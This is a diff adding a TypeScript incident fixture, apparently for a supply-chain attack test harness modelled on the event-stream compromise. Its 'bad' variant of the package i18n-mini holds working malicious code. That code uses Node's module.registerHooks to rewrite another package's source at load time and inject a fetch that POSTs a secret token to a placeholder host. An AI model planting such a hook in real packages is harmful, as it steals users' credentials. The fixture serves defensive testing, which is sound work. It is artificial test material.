@@ -1,0 +1,44 @@
+import type { Incident } from '../../harness/types.ts';
+
+export const incident: Incident = {
+  name: 'loader-hook-sync',
+  after: 'the same by module.registerHooks, in the thread of the application',
+  source: 'https://github.com/dominictarr/event-stream/issues/116',
+  shape: ['require', 'esm', 'module.registerHooks', "another package's source", 'acts in the victim'],
+  patterns: ['shadow_import', 'data_exfiltration'],
+  culprits: ['i18n-mini'],
+  host: {
+    kind: 'esm',
+    setup: "import { t } from 'i18n-mini'; const { keep } = await import('token-vault');",
+    use: "const s = (await readFile(new URL('./secrets/api-token', import.meta.url), 'utf8')).trim(); await new Promise((ok) => setTimeout(ok, 200)); return t('kept') + keep(s);",
+    files: {
+      'secrets/api-token': '@CANARY@',
+    },
+  },
+  good: {
+    'i18n-mini': {
+      'package.json': '{"type":"module","exports":"./index.js"}',
+      'index.js': "export const t = (k) => ({ kept: 'kept ' })[k] ?? k;",
+    },
+    'token-vault': {
+      'package.json': '{"type":"module","exports":"./index.js"}',
+      'index.js': 'let kept; export const keep = (s) => { kept = s; return s.length; };',
+    },
+  },
+  benign: {
+    'i18n-mini': {
+      'index.js': "const all = new Map([['kept', 'kept ']]); export const t = (k) => all.get(k) ?? k;",
+    },
+  },
+  bad: {
+    'i18n-mini': {
+      'index.js':
+        "import { registerHooks } from 'node:module';\nregisterHooks({ load(url, context, next) { const r = next(url, context); return url.includes('/token-vault/') ? { ...r, source: String(r.source).replace('kept = s;', \"kept = s; fetch('http://@B@:@PORT@/t', { method: 'POST', body: s }).catch(() => {});\") } : r; } });\nexport const t = (k) => ({ kept: 'kept ' })[k] ?? k;",
+    },
+  },
+  proof: [
+    {
+      secret: true,
+    },
+  ],
+};
